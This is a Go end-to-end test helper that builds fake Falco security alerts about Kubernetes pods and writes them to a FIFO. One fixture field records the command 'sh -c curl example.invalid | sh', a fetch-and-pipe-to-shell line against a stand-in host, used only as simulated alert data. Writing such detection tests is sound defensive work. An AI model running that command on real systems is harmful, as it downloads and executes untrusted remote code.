package program

import (
	"bytes"
	"encoding/json"
	"time"

	corev1 "k8s.io/api/core/v1"

	"stoop/alert"
	"stoop/e2e/kube"
)

// Alert is what a test lets Falco say.
type Alert struct {
	Hostname string         `json:"hostname,omitempty"`
	Output   string         `json:"output"`
	Fields   map[string]any `json:"output_fields,omitempty"`
	Priority string         `json:"priority"`
	Rule     string         `json:"rule"`
	Source   string         `json:"source,omitempty"`
	Tags     []string       `json:"tags,omitempty"`
	Time     string         `json:"time"`
}

// Critical is a Critical alert about a pod, as Falco 0.44 writes it on the
// pod's node.
func Critical(rule string, pod *corev1.Pod) Alert {
	now := time.Now().UTC()
	return Alert{
		Hostname: pod.Spec.NodeName,
		Output:   "Something critical happened in a container | container_id=" + kube.ShortID(pod),
		Fields: map[string]any{
			"container.id":   kube.ShortID(pod),
			"container.name": "main",
			"evt.time":       now.UnixNano(),
			"evt.type":       "execve",
			"k8s.ns.name":    pod.Namespace,
			"k8s.pod.name":   pod.Name,
			"k8s.pod.uid":    string(pod.UID),
			"proc.cmdline":   "sh -c curl example.invalid | sh",
			"proc.name":      "sh",
		},
		Priority: "Critical",
		Rule:     rule,
		Source:   "syscall",
		Tags:     []string{"container", "mitre_execution"},
		Time:     Stamp(now),
	}
}

// Stamp is a time as Falco writes it.
func Stamp(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000000000Z") }

// Line is the alert as a line of Falco's output, newline included.
func (a Alert) Line() []byte {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false) // nor does Falco
	if err := e.Encode(a); err != nil {
		panic(err) // only a field of a type that has no JSON
	}
	return b.Bytes()
}

// ID is the id that stoop gives the line.
func ID(line []byte) string { return alert.IDOf(bytes.TrimSpace(line)) }

// Send writes an alert to the FIFO and returns its id.
func (s *Stoop) Send(a Alert) string {
	s.t.Helper()
	line := a.Line()
	s.Write(line)
	return ID(line)
}
